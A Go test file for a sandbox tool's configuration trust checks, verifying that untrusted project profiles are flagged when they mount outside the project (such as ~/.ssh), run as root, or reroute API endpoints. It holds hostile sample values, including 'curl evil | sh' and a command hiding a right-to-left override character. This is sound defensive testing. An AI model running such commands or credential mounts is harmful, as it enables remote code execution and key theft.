package config

import (
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// leaves lists the fields of a struct, and those of what is in its lists and
// maps, by Go's names.
func leaves(typ reflect.Type, prefix string) []string {
	for typ.Kind() == reflect.Slice || typ.Kind() == reflect.Map || typ.Kind() == reflect.Pointer {
		typ = typ.Elem()
	}
	if typ.Kind() != reflect.Struct {
		return []string{prefix}
	}
	var all []string
	for f := range typ.Fields() {
		name := f.Name
		if prefix != "" {
			name = prefix + "." + name
		}
		all = append(all, leaves(f.Type, name)...)
	}
	return all
}

// A field of the Spec that nobody has decided about is one by which a clone may
// grant itself something.
func TestEveryFieldIsDecidedAboutOnce(t *testing.T) {
	var decided []string
	for _, r := range trustRules() {
		decided = append(decided, r.fields...)
	}
	all := leaves(reflect.TypeFor[Spec](), "")
	slices.Sort(all)
	slices.Sort(decided)
	equal(t, all, decided)
}

func TestBeyond(t *testing.T) {
	project := t.TempDir()
	outside := t.TempDir()
	noError(t, os.Mkdir(filepath.Join(project, "src"), 0o700))
	for link, to := range map[string]string{"keys": outside, "up": "..", "inner": "src"} {
		noError(t, os.Symlink(to, filepath.Join(project, link)))
	}
	mount := func(source, mode string) func(*Spec) {
		return func(s *Spec) { s.Mounts = []Mount{{Source: source, Target: "/srv/x", Mode: mode}} }
	}
	granted := func() Spec {
		s := Defaults()
		s.Resources.Swap, s.Resources.Disk, s.Resources.IORead = GiB, 8*GiB, 1<<20
		s.Resources.GPU = GPURequest{Count: 1}
		s.Network = Network{Deny: []string{"203.0.113.0/24"}, HostPorts: []int{11434}, Ask: true}
		s.Env["MINE"] = EnvVar{From: FromEnv}
		s.Volumes = []Volume{{Name: "v", Target: "/v"}}
		s.Ports = []Port{{Port: 80}}
		s.Setup = []string{"mine"}
		s.Mounts = []Mount{{Source: outside, Target: "/mine", Mode: "rw"}}
		return s
	}
	inherited := Defaults()
	inherited.Setup, inherited.Command, inherited.Shell, inherited.Install = []string{"built in"}, []string{"agent"}, []string{"/opt/shell"}, "get it"
	inherited.Env = map[string]EnvVar{"VENV": {Value: "/venv"}, "KEY": {From: FromEnv}}
	listed := func(s *Spec) { s.Network.Allow, s.Network.Domains = []string{"192.0.2.0/24"}, []string{"a.example"} }
	for _, c := range []struct {
		name   string
		set    func(*Spec)
		grants func(*Spec) // changes what is granted
		want   string      // "" is nothing
	}{
		{name: "nothing", set: func(*Spec) {}},
		{name: "words", set: func(s *Spec) {
			s.Profile, s.Description, s.Language, s.Workdir = "x", "x", "go", "/x"
			s.Labels = map[string]string{"a": "b"}
			s.Automation = Automation{AutoStop: 1, AutoPause: 1, StopTimeout: 1, PreStopTimeout: 1, AutoArchive: 1, AutoDelete: 0, TTL: 1, Activity: []string{"exec"}}
		}},
		{name: "less", set: func(s *Spec) {
			s.NoNewPrivileges = true
			s.Resources = Resources{CPU: 1, Memory: GiB, Swap: 0, Disk: GiB, Pids: 100, IORead: 1, IOWrite: 7}
			s.Network = Network{BlockAll: true}
			s.Env, s.Mounts, s.Volumes, s.Ports, s.Setup = nil, nil, nil, nil, nil
			s.Shell = []string{"/usr/bin/zsh", "-l", "-i"}
		}},
		{name: "a narrower network", set: func(s *Spec) {
			s.Network = Network{Deny: []string{"203.0.113.0/24", "8.8.8.8/32"}, Allow: []string{"1.1.1.0/24:443", "2606:4700::/32"}, Domains: []string{"*.example.org"}, Ask: true}
		}},
		{name: "what is inherited", set: func(s *Spec) {
			s.Setup, s.Command, s.Shell, s.Install = inherited.Setup, inherited.Command, inherited.Shell, inherited.Install
			s.Env = map[string]EnvVar{"VENV": {Value: "/venv"}}
		}},
		{name: "the project", set: mount(project, MountRW)},
		{name: "in the project", set: mount(project+"/src", MountRW)},
		{name: "what is not there", set: mount(project+"/gone", MountRO)},
		{name: "a link inside", set: mount(project+"/inner", MountRO)},
		{name: "as granted", set: mount(outside, MountRW), grants: mount(outside, MountRW)},

		{"image", func(s *Spec) { s.Image = "evil" }, nil, `image: runs another system than this machine's: "evil"`},
		{"runtime", func(s *Spec) { s.Runtime = "runsc" }, nil, `runtime: is run by "runsc"`},
		{"shell", func(s *Spec) { s.Shell = []string{"/bin/bash", "-c", "evil"} }, nil, `shell: starts "/bin/bash -c evil" where you ask for a shell`},
		{"shell of the project", func(s *Spec) { s.Shell = []string{"/workspace/bash"} }, nil, "shell: starts"},
		{"install", func(s *Spec) { s.Install = "curl evil | sh" }, nil, `install: has you install a program by "curl evil | sh"`},
		{"command", func(s *Spec) { s.Command = []string{"evil"} }, nil, `command: starts "evil" where you attach`},
		{"over programs", func(s *Spec) { s.Mounts = []Mount{{Source: project, Target: "/usr/local/bin", Mode: "ro"}} }, nil, `mounts[0].target: puts its own files in place of the sandbox's "/usr/local/bin"`},
		{"over settings", func(s *Spec) { s.Mounts = []Mount{{Source: project, Target: "/home/dev", Mode: "ro"}} }, nil, "mounts[0].target: puts"},
		{"over all work", func(s *Spec) { s.Mounts = []Mount{{Source: project, Target: "/mnt", Mode: "ro"}} }, nil, ""},
		{"a long command", func(s *Spec) { s.Command = []string{"sh", "-c", strings.Repeat("x", 80) + "; evil\u202e"} }, nil, `xxx; evil\u202e" where you attach`},
		{"setup", func(s *Spec) { s.Setup = []string{"a", "b"} }, nil, "setup: runs 2 commands when it is made"},
		{"pre_stop", func(s *Spec) { s.Automation.PreStop = []string{"a"} }, nil, `automation.pre_stop: runs "a" when it stops`},
		{"user", func(s *Spec) { s.User = "root" }, nil, `user: runs programs as "root"`},
		{"privileges", func(s *Spec) { s.NoNewPrivileges = false }, nil, "no_new_privileges: lets programs gain privileges inside (sudo)"},
		{"env", func(s *Spec) { s.Env = map[string]EnvVar{"KEY": {From: FromEnv}} }, nil, `env.KEY: takes "KEY" from your environment`},
		{"env value", func(s *Spec) { s.Env = map[string]EnvVar{"ANTHROPIC_BASE_URL": {Value: "https://evil"}} }, nil, `env.ANTHROPIC_BASE_URL: sets "ANTHROPIC_BASE_URL" to "https://evil"`},
		{"setup behind what is inherited", func(s *Spec) { s.Setup = []string{"built in", "a"} }, nil, "setup: runs one command when it is made"},
		{"setup before what is inherited", func(s *Spec) { s.Setup = []string{"a", "built in"} }, nil, "setup: runs 2 commands when it is made"},
		{"env inherited", func(s *Spec) { s.Env = map[string]EnvVar{"VENV": {Value: "/evil"}} }, nil, `env.VENV: sets "VENV" to "/evil"`},
		{"env optional", func(s *Spec) { s.Env = map[string]EnvVar{"MINE": {From: FromEnv, Optional: true}} }, nil, "env.MINE: takes"},
		{"git identity", func(s *Spec) { s.Git.Identity = true }, func(s *Spec) { s.Git.Identity = false }, "git.identity: takes your name"},
		{"git name", func(s *Spec) { s.Git.Name = "Linus" }, nil, `git: makes commits in the name of "Linus <>"`},
		{"git email", func(s *Spec) { s.Git.Email = "a@b" }, nil, "git: makes commits"},
		{"cpu", func(s *Spec) { s.Resources.CPU = 3 }, nil, "resources.cpu: may use 3 cores"},
		{"no cpu limit", func(s *Spec) { s.Resources.CPU = 0 }, nil, "resources.cpu: may use as much as there is"},
		{"all_cpus", func(s *Spec) { s.Resources.AllCPUs = true }, nil, "resources.all_cpus: runs on every processor"},
		{"memory", func(s *Spec) { s.Resources.Memory = 5 * GiB }, nil, "resources.memory: may use 5GiB of memory"},
		{"swap", func(s *Spec) { s.Resources.Swap = 2 * GiB }, nil, "resources.swap: may use 2GiB of swap"},
		{"swap where none is", func(s *Spec) { s.Resources.Swap = 1 }, func(s *Spec) { s.Resources.Swap = 0 }, "resources.swap: may use"},
		{"disk", func(s *Spec) { s.Resources.Disk = 0 }, nil, "resources.disk: may use"},
		{"disk_reserve", func(s *Spec) { s.Resources.DiskReserve = true }, nil, "resources.disk_reserve: sets disk space aside"},
		{"pids", func(s *Spec) { s.Resources.Pids = 5000 }, nil, "resources.pids: may use 5000 processes"},
		{"gpus", func(s *Spec) { s.Resources.GPU.Count = 2 }, nil, "resources.gpu: uses 2 GPUs"},
		{"gpu", func(s *Spec) { s.Resources.GPU = GPURequest{IDs: []string{"0"}} }, nil, `resources.gpu: uses the GPU "0"`},
		{"gpu_shared", func(s *Spec) { s.Resources.GPUShared = true }, nil, "resources.gpu_shared: shares a GPU"},
		{"io_read", func(s *Spec) { s.Resources.IORead = 0 }, nil, "resources.io_read: may use"},
		{"io_write", func(s *Spec) { s.Resources.IOWrite = 2 }, func(s *Spec) { s.Resources.IOWrite = 1 }, "resources.io_write: may use"},
		{"network", func(*Spec) {}, func(s *Spec) { s.Network.BlockAll = true }, "network.block_all: uses the network"},
		{"lan", func(s *Spec) { s.Network.LAN = true }, nil, "network.lan: reaches the local network"},
		{"host ports", func(s *Spec) { s.Network.HostPorts = []int{22} }, nil, "network.host_ports: reaches port 22 of this machine"},
		{"no asking", func(s *Spec) { s.Network.Ask = false }, nil, "network.ask: does not ask"},
		{"less denied", func(s *Spec) { s.Network.Deny = nil }, nil, `network.deny: may reach "203.0.113.0/24"`},
		{"private allowed", func(s *Spec) { s.Network.Allow = []string{"192.168.0.0/16:80"} }, nil, "network.allow[0]: reaches"},
		{"local allowed", func(s *Spec) { s.Network.Allow = []string{"::1/128"} }, nil, "network.allow[0]: reaches"},
		{"metadata allowed", func(s *Spec) { s.Network.Allow = []string{"169.254.169.254/32"} }, nil, "network.allow[0]: reaches"},
		{"private ones in it allowed", func(s *Spec) { s.Network.Allow = []string{"192.0.0.0/8"} }, nil, "network.allow[0]: reaches"},
		{"local ones in it allowed", func(s *Spec) { s.Network.Allow = []string{"fe00::/8"} }, nil, "network.allow[0]: reaches"},
		{"metadata in it allowed", func(s *Spec) { s.Network.Allow = []string{"169.0.0.0/8:80"} }, nil, "network.allow[0]: reaches"},
		{"private ones by translation allowed", func(s *Spec) { s.Network.Allow = []string{"64:ff9b::a00:0/104"} }, nil, "network.allow[0]: reaches"},
		{"all allowed", func(s *Spec) { s.Network.Allow = []string{"0.0.0.0/0"} }, nil, "network.allow[0]: reaches"},
		{"more allowed", func(s *Spec) { s.Network.Allow, s.Network.Domains = []string{"192.0.2.0/24", "8.8.8.8/32"}, nil }, listed, `network.allow[1]: reaches "8.8.8.8/32"`},
		{"more domains", func(s *Spec) { s.Network.Domains = []string{"b.example"} }, listed, `network.domains[0]: reaches "b.example"`},
		{"nothing listed", func(s *Spec) { s.Network.Allow, s.Network.Domains = nil, nil }, listed, "network.allow: reaches all of the internet"},
		{"port", func(s *Spec) { s.Ports = []Port{{Port: 81}} }, nil, "ports[0]: shows its port 81 to you"},
		{"public port", func(s *Spec) { s.Ports = []Port{{Port: 80, Public: true}} }, nil, "ports[0]: shows its port 80 to everybody"},
		{"outside", mount("/etc", MountRO), nil, `mounts[0].source: mounts "/etc" (ro) at "/srv/x", which is outside of the project`},
		{"above", mount(filepath.Dir(project), MountRO), nil, "mounts[0].source: mounts"},
		{"a neighbour", mount(project+"-2", MountRO), nil, "mounts[0].source: mounts"},
		{"a link out", mount(project+"/keys", MountRO), nil, "which is a link to"},
		{"through a link", mount(project+"/keys/.", MountRO), nil, "which is a link to"},
		{"a link up", mount(project+"/up", MountRO), nil, "which is a link to"},
		{"as root", mount(project, MountRWAsRoot), nil, "mounts[0].mode: writes to"},
		{"granted, at another place", mount(outside, MountRW), nil, "mounts[0].source: mounts"},
		{"volume", func(s *Spec) { s.Volumes = []Volume{{Name: "mine", Target: "/v"}} }, nil, `volumes[0]: uses your volume "mine" at "/v"`},
		{"the volume's rest", func(s *Spec) { s.Volumes = []Volume{{Name: "v", Target: "/v", Subpath: "x"}} }, nil, "volumes[0]: uses"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, g := granted(), granted()
			c.set(&s)
			if c.grants != nil {
				c.grants(&g)
			}
			got := lines(beyond(s, g, inherited, project))
			if c.want == "" && len(got) > 0 || c.want != "" && (len(got) != 1 || !strings.Contains(got[0], c.want)) {
				t.Errorf("want %q, got %q", c.want, got)
			}
		})
	}
}

const greedy = "extends = \"base\"\n[[mounts]]\nsource = \"~/.ssh\"\ntarget = \"/keys\"\n"

// trusting is a house whose user has a home and a file of trust.
func trusting(t *testing.T, files map[string]string) *Profiles {
	t.Helper()
	p := house(t, files)
	p.Home = filepath.Join(filepath.Dir(p.Dir), "home")
	p.TrustFile = filepath.Join(p.Home, "state", "trust.json")
	return p
}

func (p *Profiles) trust(t *testing.T) *Trust {
	t.Helper()
	trust, err := LoadTrust(p.TrustFile)
	noError(t, err)
	return trust
}

// Trust is that of one file with one content.
func TestTrust(t *testing.T) {
	p := trusting(t, map[string]string{
		"work/cove.toml":       greedy,
		"work/.cove/mine.toml": "extends = \"./parent.toml\"\n",
		"work/.cove/parent.toml": `extends = "base"
setup = ["x"]
`,
		"work/narrow.toml":              "extends = \"base\"\nresources.memory = \"64MiB\"\n[[mounts]]\nsource = \".\"\ntarget = \"/workspace\"\nmode = \"rw\"\n",
		"user/profiles/own.toml":        "extends = \"./parts/more.toml\"\nsetup = [\"mine\"]\n",
		"user/profiles/parts/more.toml": "extends = \"base\"\nuser = \"root\"\n",
	})
	get := func(name string) *Profile {
		t.Helper()
		got, err := p.Resolve(name)
		noError(t, err, name)
		return got
	}
	got := get("./cove.toml")
	wantError(t, got.Check(), `cove.toml:3:1: mounts[0].source: it is not trusted, and mounts "`+p.Home+`/.ssh" (ro) at "/keys", which is outside of the project; to be told all, and to trust it: cove trust cove.toml`)
	noError(t, got.Valid())
	// Flags change nothing about it.
	noError(t, got.Override("mount", "/srv:/srv"))
	wantError(t, got.Check(), "it is not trusted")

	wantError(t, get("mine").Check(), ".cove/parent.toml:2:1: setup: it is not trusted, and runs one command when it is made; to be told all, and to trust it: cove trust .cove/mine.toml")
	noError(t, get("./narrow.toml").Check())
	equal(t, p.Dir, get("./narrow.toml").Spec.Mounts[0].Within)
	noError(t, get("own").Check(), "the user's own asks nobody")
	if get("own").Project != nil || get("shell").Project != nil {
		t.Error("the user's own is taken for a project's")
	}

	now := time.Unix(1700000000, 0)
	noError(t, p.trust(t).Add(*get("./cove.toml").Project, now))
	noError(t, p.trust(t).Add(*get("mine").Project, now))
	equal(t, 2, len(p.trust(t).Entries()))
	noError(t, get("./cove.toml").Check())
	noError(t, get("mine").Check())
	if info, err := os.Stat(filepath.Join(p.Home, "state", "trust.json")); err != nil || info.Mode() != 0o600 {
		t.Errorf("the file of trust: %v, %v", info.Mode(), err)
	}

	// Another content, of a parent too, and another place.
	write := func(name, text string) {
		t.Helper()
		noError(t, os.WriteFile(filepath.Join(p.Dir, name), []byte(text), 0o600))
	}
	write(".cove/parent.toml", "extends = \"base\"\nsetup = [\"y\"]\n")
	wantError(t, get("mine").Check(), "it is not trusted")
	write("cove.toml", greedy+"\n")
	wantError(t, get("./cove.toml").Check(), "it is not trusted")
	write("cove.toml", greedy)
	noError(t, get("./cove.toml").Check())
	noError(t, os.Mkdir(filepath.Join(p.Dir, "sub"), 0o700))
	write("sub/cove.toml", greedy)
	wantError(t, get("sub/cove.toml").Check(), "it is not trusted")

	removed, err := p.trust(t).Remove(get("./cove.toml").Project.Path)
	noError(t, err)
	equal(t, true, removed)
	removed, err = p.trust(t).Remove("/nothing")
	noError(t, err)
	equal(t, false, removed)
	wantError(t, get("./cove.toml").Check(), "it is not trusted")
}

// The project's own profile is found, and nothing in its place is.
func TestOwn(t *testing.T) {
	p := house(t, map[string]string{"work/x": "", "work/sub/cove.toml": described("the project's")})
	own, err := p.Own()
	noError(t, err)
	if own != nil {
		t.Error("there is one")
	}
	p.Dir = filepath.Join(p.Dir, "sub")
	own, err = p.Own()
	noError(t, err)
	equal(t, "the project's", own.Spec.Description)
	equal(t, 0, len(own.Project.Beyond))
	equal(t, false, own.Project.Trusted)
}

// What somebody else may have written says nothing of what the user trusts.
func TestTrustOfOthers(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "trust.json")
	noError(t, os.WriteFile(path, []byte("[]"), 0o600))
	_, err := LoadTrust(path)
	noError(t, err)
	noError(t, os.Chmod(path, 0o620))
	_, err = LoadTrust(path)
	wantError(t, err, "it is not yours alone")
	noError(t, os.Chmod(path, 0o600))
	noError(t, os.WriteFile(path, []byte("{"), 0o600))
	_, err = LoadTrust(path)
	wantError(t, err, "remove it to begin anew")
	link := filepath.Join(dir, "link")
	noError(t, os.Symlink(path, link))
	_, err = LoadTrust(link)
	wantError(t, err, "too many levels of symbolic links")
	if os.Geteuid() == 0 {
		noError(t, os.WriteFile(path, []byte("[]"), 0o600))
		noError(t, os.Chown(path, 1234, 0))
		_, err = LoadTrust(path)
		wantError(t, err, "uid 1234")
	}
}
